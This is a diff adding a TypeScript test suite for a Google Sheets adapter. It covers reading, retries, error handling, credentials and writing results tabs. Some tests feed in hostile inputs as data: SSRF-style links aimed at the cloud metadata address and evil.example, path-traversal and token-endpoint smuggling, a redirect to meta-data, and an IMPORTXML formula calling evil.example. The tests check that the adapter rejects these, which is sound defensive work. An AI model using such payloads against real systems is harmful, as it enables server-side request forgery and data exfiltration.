@@ -1,0 +1,447 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { sheets_v4 } from '@googleapis/sheets';
+import fc from 'fast-check';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { googleCredentials } from '../../../shared/adapters/google/google-credentials.ts';
+import { type GoogleSheetsSettings, googleSheets } from '../../../shared/adapters/google/google-sheets.ts';
+import { findSheetLink } from '../../../shared/domain/submissions/sheet-link.ts';
+import type { OnlineSheets, ResultsTab } from '../../../shared/ports/online-sheets.ts';
+import { type GoogleServer, startGoogle } from '../../support/google/google-server.ts';
+
+const id = '1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_-abcd';
+let google: GoogleServer;
+let sheets: OnlineSheets;
+
+const aws = { AWS_REGION: 'eu-north-1', AWS_ACCESS_KEY_ID: 'local', AWS_SECRET_ACCESS_KEY: 'local' };
+const before = { ...process.env };
+beforeAll(() => {
+  Object.assign(process.env, aws);
+});
+afterAll(() => {
+  process.env = before;
+});
+beforeEach(async () => {
+  google = await startGoogle();
+  sheets = onGoogle();
+});
+afterEach(() => google.stop());
+
+const onGoogle = (settings: Partial<GoogleSheetsSettings> = {}): OnlineSheets =>
+  googleSheets({
+    audience: google.audience,
+    serviceAccount: google.serviceAccount,
+    root: google.root,
+    scopes: ['write', 'metadata'],
+    mostBytes: 100_000,
+    mostCells: 5_000,
+    longestPause: 1,
+    ...settings,
+  });
+
+const cells = (...values: sheets_v4.Schema$CellData[]): sheets_v4.Schema$RowData => ({ values });
+const string = (stringValue: string): sheets_v4.Schema$CellData => ({ effectiveValue: { stringValue } });
+const tabOf = (
+  title: string,
+  rowData: sheets_v4.Schema$RowData[],
+  more: Partial<sheets_v4.Schema$Sheet> = {},
+): sheets_v4.Schema$Sheet => ({
+  properties: { sheetId: title.length, title, sheetType: 'GRID', gridProperties: { rowCount: 100, columnCount: 26 } },
+  data: [{ rowData }],
+  ...more,
+});
+const spreadsheet = (...all: sheets_v4.Schema$Sheet[]): sheets_v4.Schema$Spreadsheet => ({
+  properties: { title: 'Espoo' },
+  sheets: all,
+});
+const simple = (): sheets_v4.Schema$Spreadsheet => spreadsheet(tabOf('Questionnaire', [cells(string('Yes'))]));
+
+describe('reading', () => {
+  test('takes values as they are, formatted errors, notes, links, merges, hidden rows and what is struck through', async () => {
+    google.hold(
+      id,
+      spreadsheet(
+        tabOf(
+          'Questionnaire',
+          [
+            cells(string('Yes'), { effectiveValue: { numberValue: 305200 }, formattedValue: '305 200' }, {}),
+            cells(
+              {
+                effectiveValue: { numberValue: 45000 },
+                effectiveFormat: { numberFormat: { type: 'DATE' } },
+                formattedValue: '15.3.2023',
+              },
+              { effectiveValue: { boolValue: true } },
+              { effectiveValue: { errorValue: { type: 'N_A' } }, formattedValue: '#N/A' },
+              { effectiveValue: { numberValue: 1 }, effectiveFormat: { numberFormat: { type: 'PERCENT' } } },
+            ),
+            cells(
+              {
+                effectiveValue: { stringValue: 'No Yes' },
+                textFormatRuns: [
+                  { format: { strikethrough: true } },
+                  { startIndex: 3, format: { link: { uri: 'https://b.example' } } },
+                ],
+                hyperlink: 'https://a.example',
+                note: 'See the plan',
+              },
+              { effectiveValue: { stringValue: 'old' }, effectiveFormat: { textFormat: { strikethrough: true } } },
+              { effectiveValue: { stringValue: 'Yes' }, userEnteredValue: { formulaValue: '=A1' } },
+              { effectiveValue: { errorValue: { type: 'LOADING' } }, userEnteredValue: { formulaValue: '=B1' } },
+            ),
+          ],
+          { merges: [{ startRowIndex: 0, endRowIndex: 2, startColumnIndex: 2, endColumnIndex: 4 }] },
+        ),
+        tabOf('_scorebook', [], {
+          properties: { sheetId: 9, title: '_scorebook', hidden: true, sheetType: 'GRID' },
+          data: [
+            {
+              startRow: 4,
+              startColumn: 1,
+              rowData: [cells(string('x'))],
+              rowMetadata: [{}, { hiddenByUser: true }, { hiddenByFilter: true }],
+              columnMetadata: [{}, { hiddenByUser: true }],
+            },
+          ],
+        }),
+        { properties: { sheetId: 5, title: 'Chart', sheetType: 'OBJECT' } },
+      ),
+    );
+    const plain = { formula: false, note: '', link: '' };
+    const text = (...runs: [string, boolean?][]) => ({
+      kind: 'text',
+      runs: runs.map(([one, struck = false]) => ({ text: one, struck })),
+    });
+    expect(await sheets.fetch(id)).toEqual({
+      outcome: 'read',
+      snapshot: {
+        title: 'Espoo',
+        revision: '2026-11-24T12:00:00.000Z',
+        tabs: [
+          {
+            name: 'Questionnaire',
+            hidden: false,
+            hiddenRows: [],
+            hiddenColumns: [],
+            merges: [{ top: 1, left: 3, bottom: 2, right: 4 }],
+            cells: [
+              { row: 1, column: 1, value: text(['Yes']), ...plain },
+              { row: 1, column: 2, value: { kind: 'number', number: 305200 }, ...plain },
+              { row: 2, column: 1, value: { kind: 'date', serial: 45000 }, ...plain },
+              { row: 2, column: 2, value: { kind: 'boolean', value: true }, ...plain },
+              { row: 2, column: 3, value: { kind: 'error', text: '#N/A' }, ...plain },
+              { row: 2, column: 4, value: { kind: 'share', number: 1 }, ...plain },
+              {
+                row: 3,
+                column: 1,
+                value: text(['No ', true], ['Yes']),
+                formula: false,
+                link: 'https://a.example',
+                note: 'See the plan\nhttps://b.example',
+              },
+              { row: 3, column: 2, value: text(['old', true]), ...plain },
+              { row: 3, column: 3, value: text(['Yes']), ...plain, formula: true },
+              { row: 3, column: 4, value: { kind: 'empty' }, ...plain, formula: true },
+            ],
+          },
+          {
+            name: '_scorebook',
+            hidden: true,
+            hiddenRows: [6, 7],
+            hiddenColumns: [3],
+            merges: [],
+            cells: [{ row: 5, column: 2, value: text(['x']), ...plain }],
+          },
+        ],
+      },
+    });
+  });
+
+  test('asks for sizes first, then for the state before and after', async () => {
+    google.hold(id, simple());
+    await sheets.fetch(id);
+    const [sheet, file] = [`GET /v4/spreadsheets/${id}`, `GET /drive/v3/files/${id}`];
+    expect(google.requests).toEqual([sheet, file, sheet, file]);
+  });
+
+  test('of a sheet that is edited meanwhile begins again, and takes one state whole', async () => {
+    const held = google.hold(id, simple());
+    let edits = 0;
+    google.onRead = () => {
+      edits += 1;
+      if (edits > 1) return;
+      held.modifiedTime = '2026-11-24T12:00:01.000Z';
+      held.spreadsheet = spreadsheet(tabOf('Questionnaire', [cells(string('No'))]));
+    };
+    const reading = await sheets.fetch(id);
+    expect(reading).toMatchObject({
+      outcome: 'read',
+      snapshot: { revision: '2026-11-24T12:00:01.000Z', tabs: [{ cells: [{ value: { runs: [{ text: 'No' }] } }] }] },
+    });
+    expect(edits).toBe(2);
+  });
+
+  test('of a sheet that is edited every time ends after three times', async () => {
+    const held = google.hold(id, simple());
+    let edits = 0;
+    google.onRead = () => {
+      edits += 1;
+      held.modifiedTime = new Date(Date.UTC(2027, 0, edits)).toISOString();
+    };
+    expect(await sheets.fetch(id)).toEqual({ outcome: 'changing' });
+    expect(edits).toBe(3);
+  });
+
+  test('of a sheet with more cells than the cap ends before any cell is asked for', async () => {
+    google.hold(id, simple());
+    expect(await onGoogle({ mostCells: 2_599 }).fetch(id)).toEqual({ outcome: 'too large' });
+    expect(google.requests).toHaveLength(1);
+    expect(await onGoogle({ mostCells: 2_600 }).fetch(id)).toMatchObject({ outcome: 'read' });
+  });
+
+  test('of an answer longer than the cap ends, and does not begin again', async () => {
+    google.hold(id, spreadsheet(tabOf('Questionnaire', [cells(string('x'.repeat(100_000)))])));
+    expect(await sheets.fetch(id)).toEqual({ outcome: 'too large' });
+    expect(google.requests).toHaveLength(3);
+  });
+});
+
+const failed = (status: number, state: string, reason = state, details: object[] = []) => ({
+  status,
+  body: {
+    error: { code: status, status: state, message: 'm', errors: [{ message: 'm', domain: 'global', reason }], details },
+  },
+});
+const info = (reason: string) => [{ '@type': 'type.googleapis.com/google.rpc.ErrorInfo', reason }];
+
+describe('a sheet', () => {
+  test('that is not shared with us is told apart from one that is not there', async () => {
+    google.hold(id, simple(), 'nobody');
+    expect(await sheets.fetch(id)).toEqual({ outcome: 'not shared' });
+    expect(await sheets.fetch(`${id}x`)).toEqual({ outcome: 'gone' });
+  });
+
+  test('of which Drive will not tell the state is not shared', async () => {
+    google.hold(id, simple());
+    google.script(/files/, failed(404, 'notFound'));
+    expect(await sheets.fetch(id)).toEqual({ outcome: 'not shared' });
+  });
+
+  test('that is a document or an Excel file is told apart', async () => {
+    google.script(/spreadsheets/, failed(400, 'FAILED_PRECONDITION'));
+    expect(await sheets.fetch(id)).toEqual({ outcome: 'other format' });
+  });
+
+  test.each([
+    ['429', failed(429, 'RESOURCE_EXHAUSTED', 'rateLimitExceeded')],
+    ['500', failed(500, 'INTERNAL')],
+    ['503', { status: 503, body: 'try later' }],
+  ])('is asked for again after %s', async (_, answer) => {
+    google.hold(id, simple());
+    google.script(/spreadsheets/, answer, answer);
+    expect(await sheets.fetch(id)).toMatchObject({ outcome: 'read' });
+  });
+
+  test.each([
+    ['429 without end', failed(429, 'RESOURCE_EXHAUSTED', 'rateLimitExceeded')],
+    ['503 without end', failed(503, 'UNAVAILABLE')],
+    ['403 because we asked too much', failed(403, 'PERMISSION_DENIED', 'userRateLimitExceeded')],
+    ['403 because the API is not switched on', failed(403, 'PERMISSION_DENIED', 'forbidden', info('SERVICE_DISABLED'))],
+    ['400 because the request is wrong', failed(400, 'INVALID_ARGUMENT')],
+    ['401', failed(401, 'UNAUTHENTICATED')],
+  ])('is a fault that names the status and no more: %s', async (_, answer) => {
+    google.hold(id, simple());
+    google.script(/spreadsheets/, ...Array.from({ length: 9 }, () => answer));
+    await expect(sheets.fetch(id)).rejects.toThrow(new RegExp(`^Google answered ${answer.status}$`));
+    const asked = answer.status === 429 || answer.status === 503 ? 3 : 1;
+    expect(google.requests).toHaveLength(asked);
+  });
+
+  test('is read by what reads alone; credentials that lack a scope are a fault, not a sheet that is not shared', async () => {
+    google.hold(id, simple());
+    expect(await onGoogle({ scopes: ['read', 'metadata'] }).fetch(id)).toMatchObject({ outcome: 'read' });
+    expect(google.scopes).toEqual([
+      'https://www.googleapis.com/auth/spreadsheets.readonly',
+      'https://www.googleapis.com/auth/drive.metadata.readonly',
+    ]);
+    await expect(onGoogle({ scopes: ['metadata'] }).fetch(id)).rejects.toThrow('Google answered 403');
+  });
+
+  test('is not asked for when Google does not take our credentials: that is a fault', async () => {
+    google.hold(id, simple());
+    await expect(onGoogle({ audience: 'another pool' }).fetch(id)).rejects.toThrow();
+    await expect(onGoogle({ serviceAccount: 'other@x.example' }).fetch(id)).rejects.toThrow();
+    expect(google.requests.filter((line) => line.includes('spreadsheets'))).toEqual([]);
+  });
+});
+
+describe('no request', () => {
+  test('follows a redirect', async () => {
+    const asked: string[] = [];
+    const elsewhere = createServer((request, response) => {
+      asked.push(request.url ?? '');
+      response.end('{}');
+    });
+    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
+    const location = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/latest/meta-data`;
+    google.script(/spreadsheets/, { status: 302, headers: { location } });
+    await expect(sheets.fetch(id)).rejects.toThrow('Google answered 302');
+    expect(asked).toEqual([]);
+    elsewhere.close();
+  });
+
+  test('goes anywhere but to the address built of the id, whatever a link says', async () => {
+    const hostile = fc
+      .tuple(
+        fc.constantFrom(
+          'https://docs.google.com',
+          'https://docs。google。com',
+          'http://169.254.169.254',
+          'https://[::1]',
+          'https://x:y@docs.google.com',
+          'docs.google.com',
+          'https://docs.google.com@evil.example',
+        ),
+        fc.constantFrom(
+          '/spreadsheets/d/',
+          '/open?id=',
+          '/../../spreadsheets/d/',
+          '/file/d/',
+          '/spreadsheets/d/%2e%2e/',
+        ),
+        fc.constantFrom(
+          id,
+          `${id}/../../v1/token`,
+          `${id}?fields=*`,
+          `${id}%2F..%2Fx`,
+          `${id}:batchUpdate`,
+          `${id}\\..`,
+          '..',
+          `${id}@evil.example`,
+        ),
+      )
+      .map((parts) => parts.join(''));
+    const allowed = new Set([`GET /v4/spreadsheets/${id}`]);
+    await fc.assert(
+      fc.asyncProperty(hostile, async (text) => {
+        const link = findSheetLink(text);
+        google.requests.length = 0;
+        if (link?.kind === 'sheet') await sheets.fetch(link.id);
+        expect(google.requests.filter((line) => !allowed.has(line))).toEqual([]);
+      }),
+      { numRuns: 60 },
+    );
+  });
+});
+
+describe('the credentials', () => {
+  test('hold no key, and are asked for at Google alone', () => {
+    const federation = { audience: google.audience, serviceAccount: google.serviceAccount, root: null };
+    const client = googleCredentials(federation, ['s'], 1) as unknown as {
+      readonly tokenUrl: string;
+      readonly serviceAccountImpersonationUrl: string;
+    };
+    expect(Object.keys(client).join(' ')).not.toMatch(/private|keyFile|secretAccess/i);
+    expect(client.tokenUrl).toBe('https://sts.googleapis.com/v1/token');
+    expect(new URL(client.serviceAccountImpersonationUrl).host).toBe('iamcredentials.googleapis.com');
+  });
+
+  test('are the function’s own, out of its environment: without them nobody is asked', async () => {
+    const { AWS_SECRET_ACCESS_KEY: _, ...without } = process.env;
+    const { env } = process;
+    process.env = without;
+    await expect(onGoogle().fetch(id)).rejects.toThrow('AWS_SECRET_ACCESS_KEY is not in the environment');
+    process.env = env;
+    expect(google.requests).toEqual([]);
+  });
+});
+
+const results = (change: Partial<ResultsTab> = {}): ResultsTab => ({
+  submission: 'a1',
+  receivedAt: '2026-11-24T12:00:00.000Z',
+  title: 'Scorebook results',
+  rows: [
+    { bold: true, cells: ['Espoo scores 58 %'] },
+    { bold: false, cells: ['=IMPORTXML("https://evil.example")', 3, 4] },
+  ],
+  ...change,
+});
+const titles = (): string[] =>
+  (google.sheets.get(id)?.spreadsheet.sheets ?? []).map(({ properties }) => properties?.title ?? '');
+const tabNamed = (title: string) =>
+  google.sheets.get(id)?.spreadsheet.sheets?.find(({ properties }) => properties?.title === title);
+
+describe('results', () => {
+  test('are written as a tab of plain values: a text that looks like a formula is one text', async () => {
+    google.hold(id, simple());
+    expect(await onGoogle({ scopes: ['write'] }).writeResults(id, results())).toBe('written');
+    expect(titles()).toEqual(['Questionnaire', 'Scorebook results']);
+    const values = tabNamed('Scorebook results')?.data?.[0]?.rowData?.map((row) =>
+      row.values?.map(({ userEnteredValue }) => userEnteredValue),
+    );
+    expect(values).toEqual([
+      [{ stringValue: 'Espoo scores 58 %' }],
+      [{ stringValue: '=IMPORTXML("https://evil.example")' }, { numberValue: 3 }, { numberValue: 4 }],
+    ]);
+  });
+
+  test('take the place of the ones before, whatever that tab is called by now; written again they are the same', async () => {
+    const held = google.hold(id, simple());
+    await sheets.writeResults(id, results());
+    const renamed = tabNamed('Scorebook results');
+    if (renamed?.properties) renamed.properties.title = 'From Scorebook';
+    const later = results({ submission: 'b2', receivedAt: '2026-11-24T13:00:00.000Z' });
+    expect(await sheets.writeResults(id, later)).toBe('written');
+    expect(titles()).toEqual(['Questionnaire', 'Scorebook results']);
+    const once = held.spreadsheet;
+    expect(await sheets.writeResults(id, later)).toBe('written');
+    expect(held.spreadsheet.sheets?.map(({ data }) => data)).toEqual(once.sheets?.map(({ data }) => data));
+    expect(titles()).toEqual(['Questionnaire', 'Scorebook results']);
+  });
+
+  test('never take the place of the ones of a file received later', async () => {
+    google.hold(id, simple());
+    await sheets.writeResults(id, results({ receivedAt: '2026-11-24T13:00:00.000Z' }));
+    expect(await sheets.writeResults(id, results())).toBe('superseded');
+  });
+
+  test('leave a tab of the sender alone that has their name', async () => {
+    google.hold(id, spreadsheet(tabOf('scorebook RESULTS', [cells(string('mine'))])));
+    expect(await sheets.writeResults(id, results())).toBe('written');
+    expect(titles()).toEqual(['scorebook RESULTS', 'Scorebook results 2']);
+    expect(tabNamed('scorebook RESULTS')?.data?.[0]?.rowData).toEqual([cells(string('mine'))]);
+  });
+
+  test('are not part of what is read', async () => {
+    google.hold(id, simple());
+    const first = await sheets.fetch(id);
+    await sheets.writeResults(id, results());
+    const second = await sheets.fetch(id);
+    if (first.outcome !== 'read' || second.outcome !== 'read') throw new Error('not read');
+    expect(second.snapshot.tabs).toEqual(first.snapshot.tabs);
+  });
+
+  test.each([
+    ['viewer', 'not allowed'],
+    ['nobody', 'not allowed'],
+  ] as const)('of a sheet shared with us as %s are not written: %s', async (sharing, outcome) => {
+    google.hold(id, simple(), sharing);
+    expect(await sheets.writeResults(id, results())).toBe(outcome);
+    expect(titles()).toEqual(['Questionnaire']);
+  });
+
+  test('of a sheet that is gone are not written', async () => {
+    expect(await sheets.writeResults(id, results())).toBe('gone');
+  });
+
+  test.each([429, 503, 400])(
+    'are written when their message comes again: %i is a fault and changes nothing',
+    async (status) => {
+      google.hold(id, simple());
+      google.script(/batchUpdate/, failed(status, 'X'));
+      await expect(sheets.writeResults(id, results())).rejects.toThrow(`Google answered ${status}`);
+      expect(titles()).toEqual(['Questionnaire']);
+      expect(await sheets.writeResults(id, results())).toBe('written');
+    },
+  );
+});
